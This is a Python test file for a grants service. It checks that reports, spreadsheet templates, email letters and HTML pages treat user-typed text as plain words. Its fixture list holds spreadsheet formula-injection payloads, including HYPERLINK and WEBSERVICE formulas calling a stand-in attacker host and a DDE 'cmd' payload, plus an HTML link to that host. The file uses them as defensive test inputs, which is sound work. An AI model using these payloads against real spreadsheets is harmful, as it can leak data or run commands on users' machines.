"""Whatever goes out of the service – reports, templates, letters, pages – what somebody typed is in it as words, and as nothing else."""

import json
import re
from collections.abc import AsyncIterator
from datetime import date
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest
import pytest_asyncio
from msgspec import structs

from grants.actions.people import OPERATOR
from grants.domain.awards import AwardMilestone
from grants.domain.letters import Letter, Letterhead, words_of
from grants.domain.notices import AboutReturn, Notice
from grants.domain.reminders import Reminders
from grants.domain.return_documents import Asset, Documents, MilestoneReport
from grants.domain.returns import ReturnContext, ReturnState
from grants.mail.message import message_of
from grants.page_doors import TEMPLATES
from grants.pages.environment import environment
from grants.store.transaction import Gate
from importers.template import build_template
from reports.by_hand import make_report
from reports.catalogue import all_reports
from reports.report import Report
from tests.database import Database
from tests.grants.actions.cast import opened
from tests.importers.hostile.inspecting import EVIL, formulas_in, live_in, live_in_csv, live_in_ods, unquoted_in
from tests.importers.making import AWARD
from tests.reports.ledger import Line, Record
from tests.reports.waking import SIGNER

TYPED = [
    f'=HYPERLINK("http://{EVIL}","Pay")', f'=WEBSERVICE("http://{EVIL}")', f"=cmd|'/C calc {EVIL}'!A0", "+44 20", "@SUM(A1)",
    "-2+3", "\tTab", f'<a href="http://{EVIL}">x</a>', "＝1+1", "line\nfeed", "_x0041_",
]  # fmt: skip
OURS = re.compile(
    r"(?:SUBTOTAL|SUM)\([^()|!]*\)|'?[^'!|]+'?!\$?[A-Z]+\$?\d+(?::\$?[A-Z]+\$?\d+)?|\d+|[A-Za-z_]+\[[^\]|]*\]|'?[^'!|]+'?!\$\d+:\$\d+"
)
"""The formulas that a report may hold: totals of its own columns, and places on its own sheets."""


async def _with_hostile_words(gate: Gate) -> Record:
    """A ledger in which a recipient has typed hostile words into every field of a line, and others into the names about it."""
    record = await Record.set_up(gate)
    await record.accept("2025-26-Q1", [Line(1_000 + at, payee=text, description=text) for at, text in enumerate(TYPED)])
    return record


@pytest_asyncio.fixture
async def gate(fresh_database: Database) -> AsyncIterator[Gate]:
    """A gate to a database of its own."""
    async with opened(fresh_database) as ready:
        yield ready


@pytest.mark.parametrize("report", all_reports(), ids=lambda report: report.name)
async def test_a_report_holds_no_formula_but_its_totals_and_no_link(report: Report, gate: Gate, tmp_path: Path) -> None:
    await _with_hostile_words(gate)
    name, formats = report.name, report.offer.formats
    for format_ in formats:
        path = tmp_path / f"report.{format_}"
        await make_report(gate, OPERATOR, name, output=path, signer=SIGNER, format=format_, contact=TYPED[0])
        data = path.read_bytes()
        if format_ == "xlsx":
            assert live_in(data) == []
            assert unquoted_in(data) == []
            assert [formula for formula in formulas_in(data) if not OURS.fullmatch(formula)] == []
        elif format_ == "csv":
            assert live_in_csv(data) == []
        elif format_ == "json":
            json.loads(data)
        else:
            assert format_ == "ods"
            assert live_in_ods(data) == []


@pytest.mark.parametrize("text", TYPED)
def test_a_template_is_filled_in_with_words(text: str) -> None:
    """Names, and what the recipient told of milestones and assets in an earlier return."""
    filled_in = build_template(_told(text), prepared_rows=3)
    assert live_in(filled_in) == []
    assert unquoted_in(filled_in) == []
    assert formulas_in(filled_in) == formulas_in(build_template(_told("plain words"), prepared_rows=3))


def _told(text: str) -> ReturnContext:
    asset = Asset("x", text, date(2025, 5, 1), 1_000, text, text, None, None, "A6")
    milestone = MilestoneReport(text, None, date(2026, 1, 1), None, None, text, "A6")
    before, agreed = Documents(milestones=(milestone,), assets=(asset,)), (AwardMilestone(text, date(2026, 1, 1)),)
    return structs.replace(AWARD, recipient_name=text, delivery_body=text, milestones=agreed, before=before)


@pytest.mark.parametrize("text", TYPED)
def test_a_letter_is_one_plain_text_with_no_header_but_ours(text: str) -> None:
    about = AboutReturn(
        "LI-OLDHAM-01", text, "2025-26-Q2", date(2025, 10, 20), date(2025, 10, 1), None, ReturnState.DUE, 1,
        ever_submitted=False, collected=True, reminders=Reminders(),
    )  # fmt: skip
    subject, body = words_of(
        Notice.RETURN_DUE, about, Letterhead("https://grants.example.org", "the team"), date(2025, 10, 1)
    )
    message = message_from_bytes(
        bytes(message_of(Letter("key", "a@example.org", subject, body), "grants@example.org")), policy=default
    )
    assert (message.get_content_type(), message.is_multipart()) == ("text/plain", False)
    assert set(message.keys()) == {
        "From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "Content-Type", "Content-Transfer-Encoding", "MIME-Version",
        "Content-Language",
    }  # fmt: skip
    assert [str(one) for one in message.get_all("To", [])] == ["a@example.org"]


def test_every_page_escapes_what_it_shows() -> None:
    """No template turns it off, and each name that stands in one comes out as words."""
    pages = environment(TEMPLATES, str)
    assert len(pages.list_templates(["html"])) > 80
    assert pages.autoescape is True
    for name in pages.list_templates(["html"]):
        source = pages.loader.get_source(pages, name)[0] if pages.loader else ""
        assert not re.search(r"\|\s*safe\b|autoescape\s+false|Markup\(", source), name
    assert "<" not in pages.from_string("{{ x }}").render(x=TYPED[7])
